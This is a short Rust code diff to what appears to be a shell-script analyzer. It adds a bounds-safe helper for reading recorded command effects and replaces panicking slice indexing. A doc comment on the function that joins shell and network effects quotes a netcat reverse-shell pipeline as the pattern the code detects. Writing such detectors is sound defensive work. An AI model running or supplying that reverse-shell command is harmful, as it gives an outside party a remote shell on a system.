@@ -321,6 +321,11 @@ impl<'a> Interp<'a> {
         })
     }
 
+    /// The effects behind the first `first` ones.
+    pub(crate) fn effects_since(&self, first: usize) -> &[Effect] {
+        self.out.effects.get(first..).unwrap_or_default()
+    }
+
     /// The source text at this span.
     pub(crate) fn source_text(&self, span: Span) -> &str {
         self.frame.text.source.get(span.start as usize..span.end as usize).unwrap_or_default()
@@ -335,7 +340,7 @@ impl<'a> Interp<'a> {
             }
             result.status = last.status;
             if self.jumps.ended {
-                let rest = &list.items[index + 1..];
+                let rest = list.items.get(index + 1..).unwrap_or_default();
                 self.run_unreached(|interp| {
                     for item in rest {
                         interp.run_and_or(item);
@@ -410,7 +415,7 @@ impl<'a> Interp<'a> {
     /// A pipeline in which one stage is a shell fed by something unknown and another holds a network
     /// connection is a shell for the other end (`sh -i <fifo | nc host port >fifo`).
     fn join_shell_and_network(&mut self, first_effect: usize) {
-        let stages = &self.out.effects[first_effect..];
+        let stages = self.effects_since(first_effect);
         // A remote command whose output is piped on is a download; a bare connection is a person.
         let network = stages.iter().any(|effect| {
             let program = self.out.commands.get(effect.command).and_then(|command| command.program);
